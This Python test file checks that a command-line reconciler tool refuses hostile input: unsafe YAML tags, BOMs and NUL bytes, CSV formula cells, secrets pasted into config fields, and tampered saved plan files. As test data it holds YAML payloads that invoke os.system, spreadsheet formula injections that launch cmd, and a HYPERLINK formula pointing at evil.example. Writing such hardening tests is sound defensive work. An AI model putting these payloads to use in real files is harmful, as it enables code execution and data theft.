"""Hostile input, the rest of the list (issue: hardening): tags that are not safe, BOMs and
raw NULs in YAML, formula cells and CRLF in CSVs, a secret pasted where a variable name
goes, and saved plans that were edited or come from a future version. Each is exit 1 with
one located line, nothing written, in bounded time; formula cells are data, shown only
masked unless --show-values.

(Duplicate keys, tabs, wrong CSV headers, ragged rows, NULs in cells, quoted newlines,
http:// off loopback, unknown vendors and names that are not names are cases of
tests/cli/test_validate.py's BAD table; paths, FIFOs, devices and bombs are in
tests/cli/test_hostile_input.py.)
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from tests.kit.project import Project
from tests.kit.specs import CONFIG_YAML, manifest

SECONDS = 10  # every refusal comes well within this, on the shared 2-core machine


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def refused(project: Project, *args: str) -> list[str]:
    """Run a command that must refuse: exit 1, no traceback, nothing written, quickly.
    Returns the problem lines (stderr without the closing count)."""
    before = files_under(project.root)
    start = time.monotonic()
    result = project.run(*args)
    elapsed = time.monotonic() - start
    assert result.code == 1, result.output
    assert "Traceback" not in result.output and "internal error" not in result.output
    assert elapsed < SECONDS
    assert files_under(project.root) == before, "something was written"
    return [line for line in result.err.splitlines() if not line.startswith("Error: ")] or [
        result.err.strip()
    ]


SEG_ENTRY = "absent: [{profile: {user_id: u_1}, identifiers: [{type: email, value: a@b.example}]}]"


@pytest.mark.parametrize(
    "body",
    [
        'absent: !!python/object/apply:os.system ["touch pwned"]',
        "absent: !!python/object/new:os.system {args: [touch pwned]}",
        "absent: !!set {a, b}",
        "absent: !!omap [{a: 1}]",
        "absent: !vault [x]",
    ],
    ids=["python-apply-on-list", "python-new-on-mapping", "set", "omap", "local-tag"],
)
def test_a_tag_on_a_mapping_or_list_is_refused_never_dropped(project: Project, body: str) -> None:
    project.write("specs/tagged.yaml", manifest(body))
    [line] = refused(project, "validate")
    assert line.startswith("specs/tagged.yaml:9: YAML error: the tag "), line
    assert "is not allowed" in line
    assert not (project.root / "pwned").exists()


def test_a_python_tag_on_a_scalar_is_refused(project: Project) -> None:
    project.write("specs/tagged.yaml", manifest("absent: !!python/name:os.system x"))
    [line] = refused(project, "validate")
    assert line == (
        "specs/tagged.yaml:9: YAML syntax error: could not determine a constructor for the "
        "tag '!!python/name:os.system'"
    ), line


def test_what_pyyaml_quotes_is_masked_and_capped(project: Project) -> None:
    alias = "sgp_LEAKCHECK_token_pasted_as_an_alias_name_0123456789"
    project.write("specs/alias.yaml", manifest(f"absent: *{alias}"))
    [line] = refused(project, "validate")
    assert line.startswith("specs/alias.yaml:9: YAML syntax error: found undefined alias"), line
    assert "LEAKCHECK" not in line and len(line) < 120


def test_a_tag_in_the_config_is_refused(project: Project) -> None:
    project.write("reconciler.yaml", CONFIG_YAML.replace("targets:", "targets: !!python/none"))
    [line] = refused(project, "validate")
    assert line.startswith("reconciler.yaml:5: YAML error: the tag"), line


def test_a_bom_starts_a_manifest_and_line_numbers_stay_right(project: Project) -> None:
    text = manifest(SEG_ENTRY + "\n" + "bogus: 1")
    project.write("specs/bom.yaml", b"\xef\xbb\xbf" + text.encode())
    [line] = refused(project, "validate")
    assert line.startswith("specs/bom.yaml:10: spec.bogus: unknown key"), line
    project.write("specs/bom.yaml", b"\xef\xbb\xbf" + manifest(SEG_ENTRY).encode())
    assert project.run("validate").code == 0


def test_a_raw_nul_byte_in_a_manifest_is_located(project: Project) -> None:
    text = manifest(SEG_ENTRY).encode().replace(b"team-test", b"team\x00test")
    project.write("specs/nul.yaml", text)
    [line] = refused(project, "validate")
    assert line.startswith("specs/nul.yaml:5: YAML syntax error"), line
    assert "#x0000" in line


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_formula_cells_are_data_shown_only_masked(project: Project) -> None:
    rows = "".join(f'u_{i},anonymous_id,"{f}"\n' for i, f in enumerate(FORMULAS))
    project.write("specs/rows.csv", "user_id,type,value\n" + rows)
    project.write("specs/seg.yaml", manifest("absent_csv: [rows.csv]"))
    result = project.run("validate")
    assert result.code == 0 and "4 item(s)" in result.out, result.output
    masked = project.run("plan").output + project.run("plan", "--format", "json").output
    markdown = project.run("plan", "--format", "markdown").output
    for formula in FORMULAS:
        assert formula not in masked + markdown
        assert "cmd|" not in masked + markdown
    shown = project.run("plan", "--format", "json", "--show-values").out
    sent = [a["request"]["body"]["delete_external_ids"][0] for a in json.loads(shown)["actions"]]
    assert {s["id"] for s in sent} == set(FORMULAS)  # kept exactly, as data


def test_a_formula_cell_in_an_error_is_never_echoed(project: Project) -> None:
    formula = '=HYPERLINK(""http://evil.example/""&A1;""click"")'
    project.write("specs/rows.csv", f'user_id,type,value\nu_1,email,"{formula}"\n')
    project.write("specs/seg.yaml", manifest("absent_csv: [rows.csv]"))
    [line] = refused(project, "validate")
    assert line.startswith("specs/rows.csv:2: value: "), line
    assert "evil.example" not in line and "HYPERLINK" not in line


def test_crlf_csvs_are_read_and_errors_name_the_right_line(project: Project) -> None:
    good = "user_id,type,value\r\nu_1,email,a@b.example\r\nu_2,email,c@d.example\r\n"
    project.write("specs/rows.csv", good)
    project.write("specs/seg.yaml", manifest("absent_csv: [rows.csv]"))
    result = project.run("validate")
    assert result.code == 0 and "2 item(s)" in result.out, result.output
    plan = json.loads(project.run("plan", "--format", "json", "--show-values").out)
    sent = {a["request"]["body"]["delete_external_ids"][0]["id"] for a in plan["actions"]}
    assert sent == {"a@b.example", "c@d.example"}  # no \r kept
    quoted = 'user_id,type,value\r\nu_1,email,"a@b\r\n.example"\r\nu_2,email,no-at\r\n'
    project.write("specs/rows.csv", quoted)
    lines = refused(project, "validate")
    assert any(t.startswith("specs/rows.csv:2: value: ") for t in lines), lines
    assert any(t.startswith("specs/rows.csv:4: value: ") for t in lines), lines


def test_a_bom_in_a_csv_header_is_not_part_of_the_first_column(project: Project) -> None:
    project.write("specs/rows.csv", b"\xef\xbb\xbfuser_id,type,value\nu_1,email,a@b.example\n")
    project.write("specs/seg.yaml", manifest("absent_csv: [rows.csv]"))
    result = project.run("validate")
    assert result.code == 0, result.output


@pytest.mark.parametrize(
    ("place", "where"),
    [
        ("ledger:\n  path: state/ledger\n  key_env: {secret}\n", "ledger.key_env"),
        ("sources:\n  age_key_env: {secret}\n", "sources.age_key_env"),
    ],
)
def test_a_secret_pasted_where_a_variable_name_goes_is_refused_unquoted(
    project: Project, place: str, where: str
) -> None:
    secret = "AGE-SECRET-KEY-1QQQPASTEDSECRETVALUE0000000000000000000000000000000000000"
    config = CONFIG_YAML.replace("ledger:\n  path: state/ledger\n", "")
    config = config.replace("targets:\n", place.format(secret=secret) + "targets:\n")
    project.write("reconciler.yaml", config)
    [line] = refused(project, "validate")
    assert where in line and "NAME of an environment variable" in line, line
    assert secret not in line and "PASTEDSECRET" not in line


@pytest.fixture
def saved(project: Project) -> Path:
    project.write("specs/seg.yaml", manifest(SEG_ENTRY))
    assert project.run("plan", "--out", "plan.json").code == 0
    return project.root / "plan.json"


def _flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes((data[at] ^ 0x20,)) + data[at + 1 :]


def _header_edit(data: bytes, old: bytes, new: bytes) -> bytes:
    """The saved plan with one header value replaced (the length fixed, the MAC not)."""
    length = int.from_bytes(data[10:14], "big")
    header = data[14 : 14 + length].replace(old, new, 1)
    assert header != data[14 : 14 + length]
    return data[:10] + len(header).to_bytes(4, "big") + header + data[14 + length :]


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda d: d[:8] + b"\x00\x09" + d[10:], "plan file format 9 is not 2"),
        (lambda d: _header_edit(d, b'"desired_digest":"', b'"desired_digest":"0'), "modified"),
        (lambda d: _flip(d, len(d) - 33 - 16), "modified"),
        (lambda d: _header_edit(d, b'"kind":"reconciler-plan"', b'"kind":"other"'), "not a saved"),
        (lambda d: _header_edit(d, b'"exists":false', b'"exists":true'), "modified"),
    ],
    ids=["future-format", "digest-edited", "record-edited", "kind", "ledger"],
)
def test_an_edited_saved_plan_is_refused_before_anything(
    project: Project, saved: Path, edit, message: str
) -> None:
    saved.write_bytes(edit(saved.read_bytes()))
    [line] = refused(project, "apply", "plan.json")
    assert line.startswith("Error: plan.json: ") or "plan.json" in line, line
    assert message in line, line


def test_a_truncated_saved_plan_is_refused(project: Project, saved: Path) -> None:
    saved.write_bytes(saved.read_bytes()[:-40])
    [line] = refused(project, "apply", "plan.json")
    assert "the plan file was modified" in line, line


def test_a_json_file_is_not_a_saved_plan(project: Project, saved: Path) -> None:
    saved.write_text('{"kind": "something-else"}')
    [line] = refused(project, "apply", "plan.json")
    assert "not a saved plan" in line, line


def test_a_specs_folder_that_does_not_exist_is_named_in_the_config(project: Project) -> None:
    # found by the deep fuzz: it was reported as a missing manifest named after the folder
    project.write("reconciler.yaml", CONFIG_YAML.replace("specs: specs/", "specs: nowhere/"))
    [line] = refused(project, "validate")
    assert line.startswith("reconciler.yaml:2: specs: no such folder nowhere"), line


@pytest.mark.parametrize("key", ["specs", "ledger"])
def test_a_folder_name_the_system_refuses_is_named_in_the_config(
    project: Project, key: str
) -> None:
    # found by the deep fuzz: a ledger path longer than a file name may hold crashed plan
    long = "A" * 300
    if key == "specs":
        text = CONFIG_YAML.replace("specs: specs/", f"specs: {long}")
    else:
        text = CONFIG_YAML.replace("  path: state/ledger\n", f"  path: {long}\n")
    project.write("reconciler.yaml", text)
    for command in ("validate", "plan"):
        [line] = refused(project, command)
        assert line.startswith("reconciler.yaml:"), line
        assert (
            f"{key if key == 'specs' else 'ledger.path'}: cannot be used: File name too long"
            in (line)
        ), line
